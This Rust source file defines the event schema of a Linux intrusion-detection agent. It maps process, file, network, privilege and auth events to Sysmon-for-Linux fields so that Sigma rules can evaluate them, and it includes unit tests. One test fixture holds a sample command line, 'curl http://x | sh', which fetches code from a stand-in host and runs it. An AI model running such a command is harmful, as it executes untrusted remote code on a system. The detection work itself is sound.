//! The normalized event: what modules put on the bus, what detection
//! evaluates, what `picketd record` writes and `picketd replay` reads.
//!
//! # Sigma field mapping
//!
//! Events expose the field names of Sysmon for Linux, so SigmaHQ's Linux
//! rules apply unmodified:
//!
//! | event | Sigma category | fields |
//! |---|---|---|
//! | `process_exec` | `process_creation` | `Image`, `CommandLine`, `CurrentDirectory`, `User`, `LogonId`, `ProcessId`, `ParentProcessId`, `ParentImage`, `ParentCommandLine`, `ParentUser`, `OriginalFileName` (exec name), `Fileless` |
//! | `process_exit` | `process_termination` | `Image`, `ProcessId`, `ExitCode`, `Signal` |
//! | `file_create`, `file_write` | `file_event` | `Image`, `TargetFilename`, `ProcessId`, `User`, `Created` |
//! | `file_delete` | `file_delete` | `Image`, `TargetFilename` |
//! | `file_rename` | `file_rename` | `Image`, `SourceFilename`, `TargetFilename` |
//! | `file_chmod`, `file_chown` | `file_change` | `Image`, `TargetFilename`, `Mode`, `SetUid`, `SetGid`, `OwnerUid`, `OwnerGid` |
//! | `file_link` | `file_event` | `Image`, `TargetFilename` (the new link), `LinkTarget`, `Symbolic` |
//! | `net_connect`, `net_accept` | `network_connection` | `Image`, `User`, `Protocol`, `Initiated` (`"true"` for connect), `SourceIp`, `SourcePort`, `SourceIsIpv6`, `DestinationIp`, `DestinationPort`, `DestinationIsIpv6`, `Success` |
//! | `net_bind`, `net_listen` | `network_listen` | as above, local end in `SourceIp`/`SourcePort` |
//! | `tcp_state` | `network_state` | `OldState`, `NewState`, addresses as above |
//! | `privilege_change` | `privilege_change` | `Syscall`, `OldUid`, `NewUid`, `OldEuid`, `NewEuid`, `OldGid`, `NewGid`, `Success` |
//! | `ptrace` | `process_access` | `TargetProcessId`, `TargetImage`, `Request`, `Success` |
//! | `memfd_create` | `memfd_create` | `MemfdName`, `Flags` |
//! | `mount` | `mount` | `Source`, `Target`, `FsType`, `Flags`, `Success` |
//! | `module_load`, `module_unload` | `driver_load` | `ModuleName`, `ImageLoaded` (finit path), `Syscall`, `Success` |
//! | `auth` | service `auth`/`sshd`/`sudo`/`su`... (log source) | `Program`, `AuthUser`, `SourceIp`, `Outcome`, keyword `message` |
//! | `fim_change` | `file_integrity` | `TargetFilename`, `OldHash`, `NewHash` |
//!
//! Every event also has `ProcessId`, `Image`, `User`, `CommandLine` and the
//! `product: linux` log source. `User` is the name of the effective uid (the
//! identity the action runs with), `LogonId` the audit login uid.

use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// The process an event is attributed to.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Process {
    /// Thread-group id.
    pub pid: u32,
    /// Thread id.
    pub tid: u32,
    /// Parent's pid.
    pub ppid: u32,
    /// Real uid.
    pub uid: u32,
    /// Real gid.
    pub gid: u32,
    /// Effective uid.
    pub euid: u32,
    /// Effective gid.
    pub egid: u32,
    /// Audit login uid, if the kernel tracks one and it is set.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub auid: Option<u32>,
    /// Name of `euid`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// Kernel `comm`.
    #[serde(default)]
    pub comm: String,
    /// Executable path.
    #[serde(default)]
    pub image: String,
    /// Arguments joined with spaces (quoted where needed).
    #[serde(default)]
    pub command_line: String,
    /// Working directory.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub cwd: String,
    /// Parent's executable.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub parent_image: String,
    /// Parent's command line.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub parent_command_line: String,
    /// Parent's user name.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub parent_user: Option<String>,
    /// cgroup v2 id.
    #[serde(default)]
    pub cgroup_id: u64,
    /// Container id, when the cgroup path names one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub container_id: Option<String>,
}

/// Network endpoint pair.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Endpoints {
    /// `tcp`, `udp` or `raw`.
    pub protocol: String,
    /// `ipv4` or `ipv6`.
    pub family: String,
    /// Local address.
    pub source_ip: String,
    /// Local port.
    pub source_port: u16,
    /// Remote address.
    pub destination_ip: String,
    /// Remote port.
    pub destination_port: u16,
}

/// What happened.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
#[non_exhaustive]
pub enum Kind {
    /// A program started.
    ProcessExec {
        /// The name passed to exec.
        filename: String,
        /// Arguments.
        argv: Vec<String>,
        /// argv was longer than the probe copies.
        #[serde(default)]
        argv_truncated: bool,
        /// The executable has no links: memfd or deleted file (fileless).
        #[serde(default)]
        fileless: bool,
    },
    /// A new process.
    ProcessFork {
        /// The child's pid.
        child_pid: u32,
    },
    /// A process ended.
    ProcessExit {
        /// Exit status (0-255) if it exited.
        code: i32,
        /// Terminating signal, 0 if none.
        signal: i32,
    },
    /// A file was created by an open.
    FileCreate {
        /// Resolved path.
        path: String,
    },
    /// An existing file was opened for writing.
    FileWrite {
        /// Resolved path.
        path: String,
        /// Truncated on open.
        #[serde(default)]
        truncate: bool,
    },
    /// unlink/rmdir.
    FileDelete {
        /// Path.
        path: String,
        /// A directory.
        #[serde(default)]
        directory: bool,
    },
    /// rename.
    FileRename {
        /// Old path.
        from: String,
        /// New path.
        to: String,
    },
    /// chmod family.
    FileChmod {
        /// Path.
        path: String,
        /// New mode.
        mode: u32,
    },
    /// chown family.
    FileChown {
        /// Path.
        path: String,
        /// New owner (`None`: unchanged).
        uid: Option<u32>,
        /// New group (`None`: unchanged).
        gid: Option<u32>,
    },
    /// link/symlink.
    FileLink {
        /// The new link.
        path: String,
        /// What it points at.
        target: String,
        /// A symbolic link.
        symbolic: bool,
    },
    /// connect.
    NetConnect {
        /// Endpoints.
        net: Endpoints,
        /// The connect succeeded or is in progress.
        success: bool,
    },
    /// accept/accept4.
    NetAccept {
        /// Endpoints.
        net: Endpoints,
    },
    /// bind.
    NetBind {
        /// Endpoints.
        net: Endpoints,
        /// bind succeeded.
        success: bool,
    },
    /// listen.
    NetListen {
        /// Endpoints.
        net: Endpoints,
        /// Backlog.
        backlog: u32,
    },
    /// A TCP state change.
    TcpState {
        /// Endpoints.
        net: Endpoints,
        /// Old state name.
        old_state: String,
        /// New state name.
        new_state: String,
    },
    /// A setuid-family call.
    PrivilegeChange {
        /// The syscall.
        syscall: String,
        /// Arguments as passed (`None`: unchanged).
        args: Vec<Option<u32>>,
        /// uid before.
        old_uid: u32,
        /// euid before.
        old_euid: u32,
        /// gid before.
        old_gid: u32,
        /// The call succeeded.
        success: bool,
        /// Its return value.
        ret: i64,
    },
    /// A ptrace attach or write.
    Ptrace {
        /// Request name.
        request: String,
        /// Target pid.
        target_pid: u32,
        /// Target executable, if known.
        #[serde(default)]
        target_image: String,
        /// Succeeded.
        success: bool,
        /// Return value.
        ret: i64,
    },
    /// memfd_create.
    MemfdCreate {
        /// Name given.
        name: String,
        /// MFD_* flags.
        flags: u32,
        /// The fd, or an error.
        ret: i64,
    },
    /// mount.
    Mount {
        /// Source.
        source: String,
        /// Mount point.
        target: String,
        /// Filesystem type.
        fstype: String,
        /// MS_* flags.
        flags: u64,
        /// Succeeded.
        success: bool,
        /// Return value.
        ret: i64,
    },
    /// init_module / finit_module.
    ModuleLoad {
        /// Syscall used.
        syscall: String,
        /// Module file for finit_module.
        #[serde(default)]
        path: String,
        /// Image bytes for init_module.
        #[serde(default)]
        len: u64,
        /// Succeeded.
        success: bool,
        /// Return value.
        ret: i64,
    },
    /// delete_module.
    ModuleUnload {
        /// Module name.
        name: String,
        /// Succeeded.
        success: bool,
        /// Return value.
        ret: i64,
    },
    /// A line of the system's authentication log.
    Auth {
        /// The program that logged it (`sshd`, `sudo`, `su`, ...).
        program: String,
        /// What it means: `login`, `login_failed`, `sudo`, `su`, `session_open`, ... or `other`.
        action: String,
        /// `success` or `failure`.
        outcome: String,
        /// The account concerned.
        #[serde(default)]
        account: String,
        /// Remote address for network logins.
        #[serde(default)]
        source_ip: String,
        /// The raw message.
        message: String,
    },
    /// A critical file's content or metadata changed.
    FimChange {
        /// Path.
        path: String,
        /// Hash before (empty: did not exist).
        old_hash: String,
        /// Hash now (empty: deleted).
        new_hash: String,
        /// What changed: `content`, `mode`, `owner`, `created`, `deleted`.
        changes: Vec<String>,
    },
}

/// A normalized event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Event {
    /// Wall-clock time, nanoseconds since the Unix epoch.
    pub time_ns: u64,
    /// The module that observed it.
    pub module: String,
    /// The acting process.
    pub process: Process,
    /// What happened (`{"type": "process_exec", ...}`).
    pub kind: Kind,
}

/// A value of a Sigma field.
#[derive(Debug, Clone, PartialEq)]
pub enum FieldValue<'a> {
    /// Text.
    Str(Cow<'a, str>),
    /// A whole number.
    Int(i64),
    /// A flag (rendered `"true"`/`"false"`, as Sysmon does).
    Bool(bool),
}

impl Event {
    /// The event's `type` name as serialized.
    pub fn type_name(&self) -> &'static str {
        match &self.kind {
            Kind::ProcessExec { .. } => "process_exec",
            Kind::ProcessFork { .. } => "process_fork",
            Kind::ProcessExit { .. } => "process_exit",
            Kind::FileCreate { .. } => "file_create",
            Kind::FileWrite { .. } => "file_write",
            Kind::FileDelete { .. } => "file_delete",
            Kind::FileRename { .. } => "file_rename",
            Kind::FileChmod { .. } => "file_chmod",
            Kind::FileChown { .. } => "file_chown",
            Kind::FileLink { .. } => "file_link",
            Kind::NetConnect { .. } => "net_connect",
            Kind::NetAccept { .. } => "net_accept",
            Kind::NetBind { .. } => "net_bind",
            Kind::NetListen { .. } => "net_listen",
            Kind::TcpState { .. } => "tcp_state",
            Kind::PrivilegeChange { .. } => "privilege_change",
            Kind::Ptrace { .. } => "ptrace",
            Kind::MemfdCreate { .. } => "memfd_create",
            Kind::Mount { .. } => "mount",
            Kind::ModuleLoad { .. } => "module_load",
            Kind::ModuleUnload { .. } => "module_unload",
            Kind::Auth { .. } => "auth",
            Kind::FimChange { .. } => "fim_change",
        }
    }

    /// The Sigma log source: `(category, service)` under product `linux`.
    pub fn logsource(&self) -> (Option<&'static str>, Option<&str>) {
        let category = match &self.kind {
            Kind::ProcessExec { .. } => "process_creation",
            Kind::ProcessFork { .. } => "process_fork",
            Kind::ProcessExit { .. } => "process_termination",
            Kind::FileCreate { .. } | Kind::FileWrite { .. } | Kind::FileLink { .. } => {
                "file_event"
            }
            Kind::FileDelete { .. } => "file_delete",
            Kind::FileRename { .. } => "file_rename",
            Kind::FileChmod { .. } | Kind::FileChown { .. } => "file_change",
            Kind::NetConnect { .. } | Kind::NetAccept { .. } => "network_connection",
            Kind::NetBind { .. } | Kind::NetListen { .. } => "network_listen",
            Kind::TcpState { .. } => "network_state",
            Kind::PrivilegeChange { .. } => "privilege_change",
            Kind::Ptrace { .. } => "process_access",
            Kind::MemfdCreate { .. } => "memfd_create",
            Kind::Mount { .. } => "mount",
            Kind::ModuleLoad { .. } | Kind::ModuleUnload { .. } => "driver_load",
            Kind::FimChange { .. } => "file_integrity",
            Kind::Auth { program, .. } => return (None, Some(program.as_str())),
        };
        (Some(category), None)
    }

    /// The value of a Sigma field (Sysmon-for-Linux names), if the event has it.
    pub fn field<'s>(&'s self, name: &str) -> Option<FieldValue<'s>> {
        use FieldValue::{Bool, Int, Str};
        let s = |v: &'s str| Some(Str(Cow::Borrowed(v)));
        let p = &self.process;
        // fields every event has
        match name {
            "ProcessId" => return Some(Int(i64::from(p.pid))),
            "ThreadId" => return Some(Int(i64::from(p.tid))),
            "Image" => return s(&p.image),
            "User" => return p.user.as_deref().map(|u| Str(Cow::Borrowed(u))),
            "CommandLine" => return s(&p.command_line),
            "CurrentDirectory" => return s(&p.cwd).filter(|_| !p.cwd.is_empty()),
            "ParentProcessId" => return Some(Int(i64::from(p.ppid))),
            "ParentImage" => return s(&p.parent_image).filter(|_| !p.parent_image.is_empty()),
            "ParentCommandLine" => {
                return s(&p.parent_command_line).filter(|_| !p.parent_command_line.is_empty())
            }
            "ParentUser" => return p.parent_user.as_deref().map(|u| Str(Cow::Borrowed(u))),
            "LogonId" => return p.auid.map(|a| Int(i64::from(a))),
            "UserId" | "uid" => return Some(Int(i64::from(p.uid))),
            "EffectiveUserId" | "euid" => return Some(Int(i64::from(p.euid))),
            "comm" => return s(&p.comm),
            "ContainerId" => return p.container_id.as_deref().map(|c| Str(Cow::Borrowed(c))),
            "EventType" => return s(self.type_name()),
            _ => {}
        }
        let net = |n: &'s Endpoints, initiated| net_field(n, initiated, name);
        match &self.kind {
            Kind::ProcessExec {
                filename, fileless, ..
            } => match name {
                "OriginalFileName" => s(filename),
                "Fileless" => Some(Bool(*fileless)),
                _ => None,
            },
            Kind::ProcessFork { child_pid } => match name {
                "ChildProcessId" => Some(Int(i64::from(*child_pid))),
                _ => None,
            },
            Kind::ProcessExit { code, signal } => match name {
                "ExitCode" => Some(Int(i64::from(*code))),
                "Signal" => Some(Int(i64::from(*signal))),
                _ => None,
            },
            Kind::FileCreate { path } => match name {
                "TargetFilename" => s(path),
                "Created" => Some(Bool(true)),
                _ => None,
            },
            Kind::FileWrite { path, .. } => match name {
                "TargetFilename" => s(path),
                "Created" => Some(Bool(false)),
                _ => None,
            },
            Kind::FileDelete { path, .. } => match name {
                "TargetFilename" => s(path),
                _ => None,
            },
            Kind::FileRename { from, to } => match name {
                "TargetFilename" => s(to),
                "SourceFilename" => s(from),
                _ => None,
            },
            Kind::FileChmod { path, mode } => match name {
                "TargetFilename" => s(path),
                "Mode" => Some(Int(i64::from(*mode))),
                // Sigma has no bitwise test: the set-id bits as flags
                "SetUid" => Some(Bool(mode & 0o4000 != 0)),
                "SetGid" => Some(Bool(mode & 0o2000 != 0)),
                _ => None,
            },
            Kind::FileChown { path, uid, gid } => match name {
                "TargetFilename" => s(path),
                "OwnerUid" => uid.map(|u| Int(i64::from(u))),
                "OwnerGid" => gid.map(|g| Int(i64::from(g))),
                _ => None,
            },
            Kind::FileLink {
                path,
                target,
                symbolic,
            } => match name {
                "TargetFilename" => s(path),
                "LinkTarget" => s(target),
                "Symbolic" => Some(Bool(*symbolic)),
                _ => None,
            },
            Kind::NetConnect { net: n, success } => match name {
                "Success" => Some(Bool(*success)),
                _ => net(n, Some(true)),
            },
            Kind::NetAccept { net: n } => net(n, Some(false)),
            Kind::NetBind { net: n, success } => match name {
                "Success" => Some(Bool(*success)),
                _ => net(n, None),
            },
            Kind::NetListen { net: n, backlog } => match name {
                "Backlog" => Some(Int(i64::from(*backlog))),
                _ => net(n, None),
            },
            Kind::TcpState {
                net: n,
                old_state,
                new_state,
            } => match name {
                "OldState" => s(old_state),
                "NewState" => s(new_state),
                _ => net(n, None),
            },
            Kind::PrivilegeChange {
                syscall,
                args,
                old_uid,
                old_euid,
                old_gid,
                success,
                ..
            } => {
                let arg = |i: usize| args.get(i).copied().flatten().map(|v| Int(i64::from(v)));
                match name {
                    "Syscall" => s(syscall),
                    "OldUid" => Some(Int(i64::from(*old_uid))),
                    "OldEuid" => Some(Int(i64::from(*old_euid))),
                    "OldGid" => Some(Int(i64::from(*old_gid))),
                    "NewUid" => arg(0),
                    "NewEuid" => arg(1),
                    "NewSuid" => arg(2),
                    "Success" => Some(Bool(*success)),
                    _ => None,
                }
            }
            Kind::Ptrace {
                request,
                target_pid,
                target_image,
                success,
                ..
            } => match name {
                "Request" => s(request),
                "TargetProcessId" => Some(Int(i64::from(*target_pid))),
                "TargetImage" => s(target_image),
                "Success" => Some(Bool(*success)),
                _ => None,
            },
            Kind::MemfdCreate { name: n, flags, .. } => match name {
                "MemfdName" => s(n),
                "Flags" => Some(Int(i64::from(*flags))),
                _ => None,
            },
            Kind::Mount {
                source,
                target,
                fstype,
                flags,
                success,
                ..
            } => match name {
                "Source" => s(source),
                "Target" => s(target),
                "FsType" => s(fstype),
                "Flags" => i64::try_from(*flags).ok().map(Int),
                "Success" => Some(Bool(*success)),
                _ => None,
            },
            Kind::ModuleLoad {
                syscall,
                path,
                success,
                ..
            } => match name {
                "Syscall" => s(syscall),
                "ImageLoaded" => s(path),
                "Success" => Some(Bool(*success)),
                _ => None,
            },
            Kind::ModuleUnload {
                name: n, success, ..
            } => match name {
                "ModuleName" => s(n),
                "Success" => Some(Bool(*success)),
                _ => None,
            },
            Kind::Auth {
                program,
                action,
                outcome,
                account,
                source_ip,
                message,
            } => match name {
                "Program" => s(program),
                "Action" => s(action),
                "Outcome" => s(outcome),
                "AuthUser" | "TargetUserName" => s(account),
                "SourceIp" | "IpAddress" => s(source_ip),
                "message" | "Message" => s(message),
                _ => None,
            },
            Kind::FimChange {
                path,
                old_hash,
                new_hash,
                ..
            } => match name {
                "TargetFilename" => s(path),
                "OldHash" => s(old_hash),
                "NewHash" => s(new_hash),
                _ => None,
            },
        }
    }

    /// The text keyword searches look at: the raw message of log events,
    /// the command line of the rest.
    pub fn message(&self) -> &str {
        match &self.kind {
            Kind::Auth { message, .. } => message,
            _ => &self.process.command_line,
        }
    }
}

fn net_field<'e>(n: &'e Endpoints, initiated: Option<bool>, name: &str) -> Option<FieldValue<'e>> {
    use FieldValue::{Bool, Int, Str};
    match name {
        "Protocol" => Some(Str(Cow::Borrowed(&n.protocol))),
        "SourceIp" => Some(Str(Cow::Borrowed(&n.source_ip))),
        "SourcePort" => Some(Int(i64::from(n.source_port))),
        "DestinationIp" => Some(Str(Cow::Borrowed(&n.destination_ip))),
        "DestinationPort" => Some(Int(i64::from(n.destination_port))),
        "SourceIsIpv6" | "DestinationIsIpv6" => Some(Bool(n.family == "ipv6")),
        "Initiated" => initiated.map(Bool),
        _ => None,
    }
}

/// Joins argv into one command line the way Sysmon for Linux shows it:
/// arguments separated by single spaces, as they were.
pub fn command_line(argv: &[String]) -> String {
    argv.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec() -> Event {
        Event {
            time_ns: 1,
            module: "process".into(),
            process: Process {
                pid: 10,
                ppid: 1,
                image: "/usr/bin/curl".into(),
                command_line: "curl http://x | sh".into(),
                user: Some("root".into()),
                parent_image: "/bin/bash".into(),
                ..Process::default()
            },
            kind: Kind::ProcessExec {
                filename: "/usr/bin/curl".into(),
                argv: vec!["curl".into()],
                argv_truncated: false,
                fileless: false,
            },
        }
    }

    #[test]
    fn exposes_sysmon_names() {
        let e = exec();
        assert_eq!(e.logsource(), (Some("process_creation"), None));
        assert_eq!(
            e.field("Image"),
            Some(FieldValue::Str("/usr/bin/curl".into()))
        );
        assert_eq!(e.field("ProcessId"), Some(FieldValue::Int(10)));
        assert_eq!(
            e.field("ParentImage"),
            Some(FieldValue::Str("/bin/bash".into()))
        );
        assert_eq!(e.field("TargetFilename"), None);
        assert_eq!(e.field("CurrentDirectory"), None, "empty cwd is absent");
    }

    #[test]
    fn json_roundtrip_and_strictness() {
        let e = exec();
        let j = serde_json::to_string(&e).unwrap();
        assert!(j.contains("\"kind\":{\"type\":\"process_exec\""), "{j}");
        let back: Event = serde_json::from_str(&j).unwrap();
        assert_eq!(back, e);
        let bad = j.replace("\"module\"", "\"modul\"");
        assert!(serde_json::from_str::<Event>(&bad).is_err());
    }

    #[test]
    fn network_fields() {
        let e = Event {
            time_ns: 0,
            module: "network".into(),
            process: Process::default(),
            kind: Kind::NetConnect {
                net: Endpoints {
                    protocol: "tcp".into(),
                    family: "ipv4".into(),
                    source_ip: "127.0.0.1".into(),
                    source_port: 5555,
                    destination_ip: "127.0.0.1".into(),
                    destination_port: 80,
                },
                success: true,
            },
        };
        assert_eq!(e.field("Initiated"), Some(FieldValue::Bool(true)));
        assert_eq!(e.field("DestinationPort"), Some(FieldValue::Int(80)));
        assert_eq!(e.logsource().0, Some("network_connection"));
        let j = serde_json::to_value(&e).unwrap();
        assert_eq!(j["kind"]["net"]["destination_port"], 80);
    }
}
